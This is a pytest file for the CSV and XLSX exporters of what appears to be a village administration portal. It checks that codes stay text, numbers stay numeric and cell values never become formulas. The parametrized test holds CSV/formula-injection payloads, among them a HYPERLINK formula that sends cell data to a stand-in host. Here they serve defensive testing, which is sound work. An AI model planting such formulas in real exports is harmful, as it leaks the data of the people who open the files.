"""The CSV and XLSX writers (``kk_portal.exports``): codes stay text, no cell becomes a formula,
numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from kk_portal.exports import CODE, MONEY, NUMBER, TEXT, Column, write_csv, write_xlsx

pytestmark = pytest.mark.usefixtures("english")


def test_writers_keep_codes_as_text_and_numbers_as_numbers():
    columns = [
        Column("NIK", "nik", CODE),
        Column("HP", "phone", CODE),
        Column("RT", "rt", CODE),
        Column("Catatan", "note", TEXT),
        Column("Jumlah", "amount", MONEY),
        Column("N", "n", NUMBER),
    ]
    rows = [
        {
            "nik": "9471024506880007",
            "phone": "081234567890",
            "rt": "003",
            "note": "-50% jalan rusak",
            "amount": Decimal("-5000.00"),
            "n": 3,
        }
    ]
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream)
    stream.seek(0)
    cells = list(openpyxl.load_workbook(stream).active.iter_rows())[1]
    assert [c.value for c in cells[:4]] == [
        "9471024506880007",
        "081234567890",
        "003",
        "-50% jalan rusak",
    ]
    assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "s"]
    assert cells[4].value == -5000 and cells[4].data_type == "n"
    assert cells[5].value == 3 and cells[5].data_type == "n"

    text = write_csv(rows, columns).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == [
        "9471024506880007",
        "081234567890",
        "003",
        "'-50% jalan rusak",
        "-5000.00",
        "3",
    ]


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://example.invalid/?d="&B2,"Lihat")', "@SUM(1+1)", "+1+1", "-2+3"],
)
def test_writers_never_write_a_formula(value):
    columns = [Column("Judul", "title", TEXT), Column("Kode", "code", CODE)]
    rows = [{"title": value, "code": value}]
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream)
    stream.seek(0)
    cells = list(openpyxl.load_workbook(stream).active.iter_rows())[1]
    assert all(c.data_type == "s" and c.value == value for c in cells)

    line = list(csv.reader(io.StringIO(write_csv(rows, columns).decode("utf-8-sig"))))[1]
    assert line == ["'" + value, "'" + value]
